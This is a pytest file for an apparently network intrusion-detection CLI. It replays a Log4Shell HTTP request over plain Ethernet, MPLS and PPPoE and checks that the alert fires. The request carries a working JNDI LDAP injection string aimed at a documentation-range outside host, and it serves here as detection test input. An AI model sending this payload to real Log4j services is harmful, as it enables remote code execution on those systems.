"""An attack inside MPLS or PPPoE alerts exactly as it does on plain Ethernet.

A capture from a carrier or DSL link wraps every packet; if the decoder did not
unwrap them the sensor would inspect nothing there and say nothing about it.
The same Log4Shell request is replayed plain, behind two MPLS labels and in a
PPPoE session, through the real CLI.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import orjson
import pytest
from scapy.all import IP, TCP, Ether, wrpcap  # type: ignore[import-untyped]
from scapy.contrib.mpls import MPLS  # type: ignore[import-untyped]
from scapy.layers.ppp import PPP, PPPoE  # type: ignore[import-untyped]

REPO = Path(__file__).resolve().parents[2]
RULES = REPO / "signatures" / "netsentry.rules"
BIN = Path(sys.executable).with_name("netsentry")
MACS = {"src": "00:11:22:33:44:55", "dst": "66:77:88:99:aa:bb"}
REQUEST = b"GET /?x=${jndi:ldap://203.0.113.5/a} HTTP/1.1\r\nHost: shop\r\n\r\n"


def conversation(wrap) -> list:  # type: ignore[no-untyped-def]
    c, s = "203.0.113.7", "10.0.0.80"
    segs = [IP(src=c, dst=s) / TCP(sport=41000, dport=80, flags="S", seq=100),
            IP(src=s, dst=c) / TCP(sport=80, dport=41000, flags="SA", seq=900, ack=101),
            IP(src=c, dst=s) / TCP(sport=41000, dport=80, flags="A", seq=101, ack=901),
            IP(src=c, dst=s) / TCP(sport=41000, dport=80, flags="PA", seq=101, ack=901) / REQUEST]
    frames = []
    for i, seg in enumerate(segs):
        f = wrap(seg)
        f.time = 1_700_000_000 + i * 0.01
        frames.append(f)
    return frames


WRAPS = {
    "ethernet": lambda ip: Ether(**MACS) / ip,
    "mpls": lambda ip: Ether(type=0x8847, **MACS) / MPLS(label=16000, s=0) / MPLS(label=17, s=1) / ip,
    "pppoe": lambda ip: Ether(**MACS) / PPPoE(sessionid=0x42) / PPP(proto=0x0021) / ip,
}


@pytest.mark.parametrize("name", list(WRAPS))
def test_log4shell_alerts_through_the_encapsulation(tmp_path: Path, name: str) -> None:
    pcap = tmp_path / f"{name}.pcap"
    wrpcap(str(pcap), conversation(WRAPS[name]))
    out = tmp_path / "out"
    proc = subprocess.run([str(BIN), "replay", str(pcap), "-S", str(RULES), "-l", str(out), "-q"],
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    records = [orjson.loads(line) for line in (out / "eve.json").read_bytes().splitlines()]
    alerts = [r for r in records if r["event_type"] == "alert"]
    assert {a["alert"]["signature_id"] for a in alerts} >= {9001001}
    log4shell = next(a for a in alerts if a["alert"]["signature_id"] == 9001001)
    assert (log4shell["src_ip"], log4shell["dest_ip"], log4shell["dest_port"]) == ("203.0.113.7", "10.0.0.80", 80)
    stats = next(r for r in records if r["event_type"] == "stats")["stats"]
    assert stats["decoder"]["invalid"] == 0
    if name != "ethernet":
        assert stats["decoder"][name] == 4
